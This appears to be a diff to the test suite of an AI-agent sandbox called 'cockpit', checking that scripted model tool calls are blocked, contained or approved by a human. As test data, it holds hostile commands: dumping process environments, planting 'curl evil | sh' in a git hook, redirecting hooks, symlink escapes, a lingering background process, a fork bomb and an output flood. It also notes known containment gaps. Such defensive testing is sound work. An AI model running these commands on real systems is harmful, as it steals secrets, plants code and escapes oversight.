@@ -92,7 +92,7 @@ def _commands(place: Place, url: str, sleeper: str) -> dict[str, str]:
         "environ-py": py(
             "import glob\n"
             'for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):\n'
-            "    try: print(p, open(p, \"rb\").read())\n"
+            '    try: print(p, open(p, "rb").read())\n'
             "    except OSError as e: print(p, e)"
         ),
         "ps-py": py('import subprocess; subprocess.run(["ps", "eww", "-A"])'),
@@ -103,7 +103,10 @@ def _commands(place: Place, url: str, sleeper: str) -> dict[str, str]:
         "hook": "echo 'curl evil | sh' > .git/hooks/pre-commit",
         "hook-py": py('open(".git/hooks/pre-commit", "w").write("curl evil | sh")'),
         "git-config": "git config core.hooksPath /var/tmp",
-        "git-config-py": py('import subprocess; subprocess.run(["git", "config", "core.hooksPath", "/var/tmp"], check=True)'),
+        "git-config-py": py(
+            "import subprocess; "
+            'subprocess.run(["git", "config", "core.hooksPath", "/var/tmp"], check=True)'
+        ),
         "rules-py": py(
             'import os; os.makedirs(".cockpit/rules", exist_ok=True); '
             'open(".cockpit/rules/x.yaml", "w").write("rules: []")'
@@ -175,7 +178,9 @@ def test_writing_outside_the_workspace_directly(escapes: Escapes) -> None:
 
 def test_writing_through_a_symlink_made_in_the_same_command(escapes: Escapes) -> None:
     _stopped_by_policy(escapes.call("same-link"))
-    assert "outside the workspace" in " ".join(escapes.call("same-link").of(PolicyDecided)[0].reasons)
+    assert "outside the workspace" in " ".join(
+        escapes.call("same-link").of(PolicyDecided)[0].reasons
+    )
     _stopped_by_sandbox(escapes.call("same-link-py"), "read-only filesystem")
     assert (escapes.place.workspace / "link-same-py").is_symlink()  # the link was made...
     assert not escapes.outside("same").exists()
@@ -263,3 +268,126 @@ def test_the_log_passes_audit(escapes: Escapes) -> None:
         timeout=60,
     )
     assert done.returncode == 0, done.stdout + done.stderr
+
+
+BOMB_TOKEN = f"bomb-{secrets.token_hex(4)}"
+FORK_BOMB = f":(){{ :|:& }};:; sleep 5 # {BOMB_TOKEN}"  # the bomb forks while bash waits
+BIG_OUTPUT = "head -c 200000000 /dev/zero | tr '\\0' x"
+
+
+@dataclass
+class Approved:
+    """A session with a terminal: the human says yes to the network, no to the last ask."""
+
+    place: Place
+    run: PtyRun
+    log: Transcript
+    requests: list[str]
+    sleepers_at_first_prompt: list[int]
+    peak_kb: int
+    bombs_at_last_prompt: list[int]
+    url: str
+
+
+@pytest.fixture(scope="module")
+def approved() -> Iterator[Approved]:
+    place = make_place("approved")
+    server = Requests()
+    sleeper = f"1000.{secrets.randbelow(10**6)}"
+    calls = [
+        {"bash": {"command": f"nohup sleep {sleeper} > /dev/null 2>&1 &"}},
+        {"bash": {"command": f"curl -sS --max-time 5 {server.url('/curl-yes')}"}},
+        {
+            "bash": {
+                "command": py(f'import urllib.request as u; u.urlopen("{server.url("/py-yes")}")')
+            }
+        },
+        {"bash": {"command": FORK_BOMB, "timeout_s": 15}},
+        {"bash": {"command": BIG_OUTPUT, "timeout_s": 120}},
+        {"bash": {"command": f"curl -s --max-time 5 {server.url('/no')}"}},
+    ]
+    turns = [{"text": "Trying.", "calls": calls}, {"text": "Still here."}]
+    sleepers: list[list[int]] = []
+    peak: list[int] = []
+    bombs: list[list[int]] = []
+
+    def answer(question: str, pid: int) -> str:
+        if not sleepers:  # the first prompt comes after the background call ended
+            sleepers.append(running_with(sleeper))
+        if "/no" in question:
+            peak.append(peak_memory_kb(pid))
+            bombs.append(running_with(BOMB_TOKEN))
+            return "n"
+        return "y"
+
+    try:
+        run = run_in_terminal(place, place.script(turns), answer, timeout=300)
+        log = Transcript(place.log())
+        yield Approved(
+            place, run, log, server.paths, sleepers[0], peak[0], bombs[0], server.url("")
+        )
+    finally:
+        server.close()
+        remove_place(place)
+
+
+def test_a_background_process_is_dead_once_its_call_ends(approved: Approved) -> None:
+    assert approved.sleepers_at_first_prompt == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bug: an approved tier-3 curl runs without the network (i13-net gives it on the "
+    "first yes), and curl's 'Couldn't connect to server' is not recognised as the no-network "
+    "wall (cockpit/sandbox/blocked.py), so the human is never offered the re-run",
+)
+def test_a_curl_the_human_approved_reaches_the_server(approved: Approved) -> None:
+    assert "/curl-yes" in approved.requests
+
+
+def test_a_network_command_the_human_approved_reaches_the_server(approved: Approved) -> None:
+    assert "/py-yes" in approved.requests  # the re-run the human allowed had the network
+    assert "/no" not in approved.requests
+    python = approved.log.call(
+        py(f'import urllib.request as u; u.urlopen("{approved.url}/py-yes")')
+    )
+    assert [b.boundary for b in python.of(SandboxBlocked)] == ["no network"]
+    assert [r.widened for r in python.of(ApprovalResolved)] == [{"network": True}]
+    assert python.result.startswith("[the sandbox blocked it once; the human allowed")
+
+
+def test_a_fork_bomb_and_a_200_mb_output_do_not_hurt_cockpit(approved: Approved) -> None:
+    assert approved.run.returncode == 0, approved.run.errors[-2000:]
+    bomb = approved.log.call(FORK_BOMB)
+    assert bomb.of(ToolFinished)
+    finished = bomb.of(ToolFinished)[0]
+    assert finished.duration_s < 15 + 5  # its timeout_s, plus the grace period
+    assert "Resource temporarily unavailable" in bomb.result  # the model sees the limit
+    assert approved.bombs_at_last_prompt == []  # every process of the bomb is gone
+    big = approved.log.call(BIG_OUTPUT)
+    assert big.of(ToolFinished)
+    assert len(big.result) < 200_000  # the model gets a head and a tail, not 200 MB
+    assert approved.peak_kb < 300_000, f"cockpit's peak memory: {approved.peak_kb} kB"
+    # the session went on to its next step and its end
+    last = approved.log.call(f"curl -s --max-time 5 {approved.url}/no")
+    assert [r.approved for r in last.of(ApprovalResolved)] == [False]
+    assert "Still here." in approved.run.output
+    assert list(approved.place.outside.iterdir()) == []
+    done = subprocess.run(
+        [*COCKPIT, "audit", str(approved.place.log())],
+        env=approved.place.env(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bug: a fork bomb that ran into the process limit but whose last command exited 0 "
+    "is not logged as sandbox.blocked (cockpit/sandbox/blocked.py ignores exit code 0)",
+)
+def test_a_fork_bomb_stopped_by_the_process_limit_is_logged_as_blocked(approved: Approved) -> None:
+    bomb = approved.log.call(FORK_BOMB)
+    assert [b.boundary for b in bomb.of(SandboxBlocked)] == ["process limit"]
